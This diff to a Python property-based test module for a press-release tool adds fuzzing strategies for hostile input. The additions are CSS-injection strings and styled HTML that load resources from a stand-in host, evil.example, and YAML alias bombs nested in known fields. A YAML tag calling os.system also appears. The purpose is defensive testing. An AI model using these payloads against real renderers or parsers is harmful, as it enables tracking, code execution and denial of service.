@@ -3,9 +3,13 @@
 - :func:`model_releases`: releases built from the model with odd text (right-to-left text and
   bidi controls, combining marks, emoji sequences, control characters other than NUL, line
   and paragraph separators, YAML and HTML syntax), saved with ``dumps_release``;
-- :func:`yaml_attacks`: front matter with anchors and aliases, alias bombs, deep nesting,
-  Python and binary tags, huge scalars, duplicate keys, tabs, CRLF, a BOM, document markers,
-  several documents, bad indentation, wrong types;
+- :func:`yaml_attacks`: front matter with anchors and aliases, alias bombs (also nested
+  inside the known fields: contacts of phones, links, social accounts, approvals), deep
+  nesting, Python and binary tags, huge scalars, duplicate keys, tabs, CRLF, a BOM, document
+  markers, several documents, bad indentation, wrong types;
+- :func:`css_attacks`: CSS injection in every field that reaches a stylesheet or a style
+  (the house colour, the language that picks the page size, the logo, style attributes and
+  blocks in the body and the About text);
 - :func:`markdown_attacks`: bodies with deep lists and quotes, huge tables, raw HTML with
   scripts and event handlers, ``javascript:`` and ``data:`` links, images of /etc/passwd and
   /dev/urandom, unclosed fences, runs of brackets and backticks;
@@ -111,6 +115,20 @@ _PATHS = st.sampled_from(
 )  # fmt: skip
 
 
+_CSS_PAYLOADS = (
+    "red; } body { background-image: url(http://evil.example/track.png) } x {",
+    "#fff;background:url(https://evil.example/a)",
+    "#1f3a5f; } @import url(//evil.example/x.css); x {",
+    "#000}</style><img src=http://evil.example/i.png><style>",
+    "#abc; background: u\\72l(http://evil.example/escaped)",
+    "expression(alert(1))",
+    "#1f3a5f\n} body { background: image-set('https://evil.example/set.png' 1x) } x {",
+    "var(--x); --x: url(http://evil.example/var)",
+    "#12;}*{behavior:url(http://evil.example/x.htc)}",
+)
+"""Values that try to leave a CSS declaration and load from the web."""
+
+
 def _aware_datetimes() -> st.SearchStrategy[dt.datetime]:
     offsets = st.integers(-14 * 60, 14 * 60).map(
         lambda minutes: dt.timezone(dt.timedelta(minutes=minutes))
@@ -167,7 +185,7 @@ def model_releases(draw: st.DrawFn) -> Release:
         name=draw(line_text()),
         website=draw(_URLS | line_text()),
         logo=draw(_PATHS | line_text(2)),
-        accent=draw(st.sampled_from(["", "#1f3a5f", "#abc", "red", "#12345g"])),
+        accent=draw(st.sampled_from(["", "#1f3a5f", "#abc", "red", "#12345g", *_CSS_PAYLOADS[:2]])),
         social=draw(
             st.lists(
                 st.builds(SocialHandle, line_text(2), line_text(2), _URLS, _SOME_EXTRA),
@@ -221,6 +239,39 @@ def _alias_bomb(levels: int, width: int) -> str:
         lines.append(f"a{level}: &a{level} [{refs}]")
     return "\n".join(lines) + "\n"
 
+
+def _known_field_bomb(shape: str, width: int) -> str:
+    """Aliases nested inside the fields Presskit reads itself (not only unknown keys)."""
+    many = ", ".join
+
+    if shape == "contacts-phones":  # the 24 KB bomb of issue 11: width contacts x width phones
+        phones = many(["*q"] * width)
+        contacts = "\n".join(["- *c"] * width)
+        return (
+            f"contacts:\n- &c\n  name: A\n  phones: [&q '+1 202 555 0100', {phones}]\n{contacts}\n"
+        )
+    if shape == "shared-phone-list":  # one anchored list used as every contact's phones
+        phone, contact = "{number: '1', label: w}", "{name: A, phones: *p}"
+        return f"x-phones: &p [{many([phone] * width)}]\ncontacts: [{many([contact] * width)}]\n"
+    if shape == "links":
+        return f"links: [&l {{title: T, url: 'https://e.org'}}, {many(['*l'] * width)}]\n"
+    if shape == "social":
+        return (
+            "organization:\n  name: O\n"
+            f"  social: [&s {{network: X, handle: '@x'}}, {many(['*s'] * width)}]\n"
+        )
+    if shape == "approvals":  # fields (a group) x approvals (a list)
+        fields = many([f"f{i}: *v" for i in range(width)])
+        approvals = "\n".join(["- *a"] * width)
+        return f"approvals:\n- &a\n  by: A\n  fields: {{v0: &v '1', {fields}}}\n{approvals}\n"
+    # levels: a bomb of anchored lists, its top level used as the contacts
+    return _alias_bomb(4, width).replace("[lol, lol]", "[{name: L}]") + "contacts: *a4\n"
+
+
+KNOWN_FIELD_BOMB = f"---\n{_HEAD}{_known_field_bomb('contacts-phones', 3000)}---\nBody.\n"
+"""The bomb issue 11 found: 3,000 contacts of 3,000 phones from 24 KB of aliases."""
+
+_KNOWN_BOMBS = ("contacts-phones", "shared-phone-list", "links", "social", "approvals", "levels")
 
 _YAML_SNIPPETS = (
     "headline: !!python/object/apply:os.system ['echo pwned > /tmp/presskit-pwned']\n",
@@ -327,7 +378,8 @@ def _deep_block(depth: int) -> str:
 @st.composite
 def yaml_attacks(draw: st.DrawFn) -> str:
     """Release text whose front matter is hostile or broken YAML."""
-    kind = draw(st.sampled_from(["snippets", "bomb", "deep", "huge", "many", "framing"]))
+    kinds = ["snippets", "bomb", "known-bomb", "deep", "huge", "many", "framing"]
+    kind = draw(st.sampled_from(kinds))
     if kind == "snippets":
         parts = draw(st.lists(st.sampled_from(_YAML_SNIPPETS), min_size=1, max_size=4))
         front = (_HEAD if draw(st.booleans()) else "") + "".join(parts)
@@ -336,6 +388,10 @@ def yaml_attacks(draw: st.DrawFn) -> str:
         use = draw(st.sampled_from(["", "headline", "contacts", "organization", "x-extra"]))
         head = _VERSION if use == "headline" else _HEAD
         front = head + _alias_bomb(levels, width) + (f"{use}: *a{levels}\n" if use else "")
+    elif kind == "known-bomb":
+        shape = draw(st.sampled_from(_KNOWN_BOMBS))
+        width = draw(sizes([2, 10, 60, 400], [3000]))
+        front = _HEAD + _known_field_bomb(shape, width if shape != "levels" else min(width, 60))
     elif kind == "deep":
         depth = draw(sizes([10, 100, 1000], [5000, 20_000]))
         shape = draw(st.sampled_from(["[]", "{}", "block", "mixed"]))
@@ -488,6 +544,46 @@ def markdown_attacks(draw: st.DrawFn) -> str:
     if draw(st.booleans()):
         release.organization.logo = draw(_PATHS)
     return dumps_release(release)
+
+
+# -- CSS injection -----------------------------------------------------------------------------
+
+_STYLED_HTML = (
+    '<p style="background:url(http://evil.example/p.png)">styled</p>',
+    "<span style=\"background-image: url('//evil.example/s.png')\">s</span>",
+    "<style>@import 'https://evil.example/i.css'; body{background:url(http://evil.example/b)}</style>",
+    '<div style="list-style: url(https://evil.example/l.png)">d</div>',
+    '<img src="http://evil.example/img.png"> <img srcset="https://evil.example/a.png 2x">',
+    '<svg><image href="http://evil.example/svg.png"/></svg>',
+    '<link rel="stylesheet" href="http://evil.example/x.css">',
+)
+
+
+@st.composite
+def css_attacks(draw: st.DrawFn) -> str:
+    """A release with CSS injected where a field reaches a stylesheet or a style."""
+    release = draw(model_releases()) if draw(st.booleans()) else Release(headline="CSS", body="B.")
+    payload = draw(st.sampled_from(_CSS_PAYLOADS))
+    fields = st.sampled_from(["accent", "language", "logo", "body", "boilerplate", "headline"])
+    for field in draw(st.lists(fields, min_size=1, max_size=3, unique=True)):
+        if field == "accent":
+            release.organization.accent = payload
+        elif field == "language":  # it picks the page size written into @page
+            release.language = draw(st.sampled_from(["en-US", "de"])) + payload
+        elif field == "logo":
+            release.organization.logo = "logo.png); " + payload
+        elif field == "headline":
+            release.headline = payload
+        else:
+            html = draw(st.sampled_from(_STYLED_HTML))
+            setattr(release, field, f"{getattr(release, field)}\n\n{html}\n\n{payload}")
+    return dumps_release(release)
+
+
+ACCENT_INJECTION = dumps_release(
+    Release(headline="CSS", body="B.", organization=Organization(accent=_CSS_PAYLOADS[0]))
+)
+"""The house colour issue 11 found reaching the CSS of the editor's outputs."""
 
 
 # -- binary and truncated files --------------------------------------------------------------
